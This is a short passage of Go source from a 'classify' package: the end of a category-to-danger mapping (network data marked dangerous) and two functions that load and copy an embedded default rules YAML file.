		NetworkData:     Dangerous,
	}
}

// DefaultRules returns a fresh copy of the built-in rules (rules.yaml,
// embedded). Changing the copy does not change the default classifier.
func DefaultRules() Rules {
	r, err := ParseRules(defaultRulesYAML)
	if err != nil {
		// The embedded file is tested; this cannot happen in a release.
		panic("classify: built-in rules are invalid: " + err.Error())
	}
	return r
}

// DefaultRulesYAML returns the text of the built-in rules, a documented
// starting point for a custom rules file.
func DefaultRulesYAML() []byte {
	return append([]byte(nil), defaultRulesYAML...)
}
